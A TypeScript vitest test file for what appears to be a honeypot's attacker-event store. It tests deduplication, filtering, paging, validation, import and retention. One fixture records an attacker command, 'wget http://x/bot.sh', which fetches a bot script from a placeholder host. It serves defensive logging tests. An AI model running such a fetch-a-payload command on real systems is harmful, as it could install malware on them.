import { randomUUID } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { silentLogger } from '../../../../shared/node/logger';
import type { AttackerEvent } from '../../../../shared/domain/events';
import { EventFilter } from '../../../../shared/domain/event-query';
import { openEventStore, type EventStore } from '../../../../main/core/attacker-events/event-store';
import { makeTmpDir } from '../../../helpers/tmp-dir';

const T0 = Date.UTC(2026, 0, 1);
const ev = (i: number, over: Partial<AttackerEvent> = {}): AttackerEvent => ({
  id: randomUUID(),
  ts: new Date(T0 + i * 1000).toISOString(),
  decky: i % 2 ? 'd1' : 'd2',
  service: 'ssh',
  src: `203.0.113.${i % 4}`,
  kind: 'auth',
  data: { session: `s${i % 3}`, username: 'root', password: `pw${i}` },
  ...over,
});

let tmp: Awaited<ReturnType<typeof makeTmpDir>> | null = null;
let store: EventStore | null = null;
const open = async () => (store = await openEventStore({ dir: tmp!.dir, log: silentLogger }));
afterEach(async () => {
  await store?.close();
  store = null;
  await tmp?.remove();
  tmp = null;
});

describe('event store', () => {
  it('stores, dedupes a re-sent batch per host, and keeps everything across a restart', async () => {
    tmp = await makeTmpDir();
    const s = await open();
    const batch = Array.from({ length: 40 }, (_, i) => ev(i));
    expect((await s.append(batch)).stored).toHaveLength(40);
    const again = await s.append(batch.slice(0, 10));
    expect(again).toEqual({ stored: [], acked: batch.slice(0, 10).map((e) => e.id) });
    // The same id from another host is a different event (no pre-empting another host's ids).
    const other = { ...batch[0]!, host: randomUUID() };
    expect((await s.append([other])).stored).toEqual([other.id]);
    await s.close();
    const r = await open();
    expect(r.list({}).total).toBe(41);
    expect(r.list({ limit: 1 }).events[0]).toEqual(batch[39]);
  });

  it('filters by time range, source, CIDR, decky, kind and text, and pages by keyset', async () => {
    tmp = await makeTmpDir();
    const s = await open();
    await s.append(Array.from({ length: 100 }, (_, i) => ev(i)));
    await s.append([ev(100, { src: '198.51.100.9', kind: 'command', data: { command: 'wget http://x/bot.sh' } })]);
    const iso = (i: number) => new Date(T0 + i * 1000).toISOString();
    expect(s.list({ since: iso(10), until: iso(20) }).total).toBe(10);
    expect(s.list({ src: '203.0.113.1' }).total).toBe(25);
    expect(s.list({ src: '203.0.113.0/30' }).total).toBe(100);
    expect(s.list({ src: '198.51.100.0/24' }).total).toBe(1);
    expect(s.list({ decky: 'd1', kind: 'auth' }).total).toBe(50);
    expect(s.list({ text: 'bot.sh' }).events.map((e) => e.data.command)).toEqual(['wget http://x/bot.sh']);
    expect(s.list({ text: 'pw42' }).total).toBe(1);
    expect(s.list({ text: 'WGET "quoted OR*' }).total).toBe(0); // FTS syntax never reaches FTS5
    const seen: string[] = [];
    let cursor: string | undefined;
    do {
      const p = s.list({ decky: 'd2', limit: 7, ...(cursor ? { cursor } : {}) });
      expect(p.total).toBe(51);
      seen.push(...p.events.map((e) => e.ts));
      cursor = p.nextCursor ?? undefined;
    } while (cursor);
    expect(seen).toHaveLength(51);
    expect([...seen].sort().reverse()).toEqual(seen);
    expect(() => s.list({ cursor: 'bm9wZQ' })).toThrow(/cursor: not a cursor this master issued/);
  });

  it('refuses bad filters with a one-line message naming the field', () => {
    const msg = (v: unknown) =>
      EventFilter.safeParse(v)
        .error?.issues.map((i) => i.message)
        .join('; ');
    expect(msg({ src: '10.0.0.0/33' })).toMatch(/src must be an address or an IPv4 CIDR/);
    expect(msg({ text: 'ab' })).toMatch(/text: each search term needs at least 3 characters/);
    expect(msg({ since: 'yesterday' })).toMatch(/ISO 8601/);
  });

  it('imports the older JSONL segments once, skipping a torn line', async () => {
    tmp = await makeTmpDir();
    const old = Array.from({ length: 5 }, (_, i) => ev(i));
    const text = old.map((e) => JSON.stringify(e)).join('\n') + '\n{"id":"torn';
    await writeFile(join(tmp.dir, 'events-00000001.jsonl'), text);
    const s = await open();
    expect(s.list({}).total).toBe(5);
    await s.close();
    expect((await open()).list({}).total).toBe(5);
  });

  it('retention removes events older than the age limit and the oldest beyond the size limit', async () => {
    tmp = await makeTmpDir();
    const s = await open();
    const pad = 'x'.repeat(2000);
    await s.append(Array.from({ length: 2000 }, (_, i) => ev(i, { data: { pad, n: i } })));
    // A late upload of an old event must not take newer ones with it.
    expect(s.prune(T0 + 1000 * 1000 + 86_400_000, { maxAgeDays: 1, maxBytes: null })).toBe(1000);
    expect(
      s.list({ limit: 1, since: new Date(T0).toISOString(), until: new Date(T0 + 1000 * 1000).toISOString() }).total,
    ).toBe(0);
    const before = s.stats().bytes;
    s.prune(0, { maxAgeDays: null, maxBytes: Math.floor(before / 2) });
    const after = s.stats();
    expect(after.bytes).toBeLessThanOrEqual(before / 2);
    expect(after.events).toBeGreaterThan(0);
    expect(after.events).toBeLessThan(1000);
    // What is left is the newest.
    expect(s.list({ limit: 1 }).events[0]!.data.n).toBe(1999);
    expect(s.list({ text: 'xxxx' }).total).toBe(after.events);
  });
});
